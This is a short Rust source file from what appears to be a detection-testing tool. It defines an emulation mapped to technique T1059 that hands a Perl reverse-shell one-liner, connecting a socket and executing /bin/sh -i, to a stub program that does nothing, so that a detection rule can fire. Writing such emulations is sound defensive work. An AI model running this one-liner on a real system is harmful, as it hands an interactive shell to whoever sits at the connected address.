//! Perl's one-liner, given to a program that does nothing.

use crate::{
    Emulation,
    stage::{Failure, Stage},
};

pub(crate) const EMULATION: Emulation = Emulation {
    id: "perl-shell",
    title: "Perl told to tie a shell to the network",
    technique: "T1059",
    technique_v18: None,
    needs: &[],
    rules: &["Perl handing out a shell"],
    act,
};

fn act(stage: &Stage) -> Result<(), Failure> {
    stage.pretend("perl", &["-e", "use Socket;socket(S,PF_INET,SOCK_STREAM,6);if(connect(S,sockaddr_in(9,inet_aton(\"127.0.0.1\")))){open(STDIN,\">&S\");exec(\"/bin/sh -i\");};"])
}
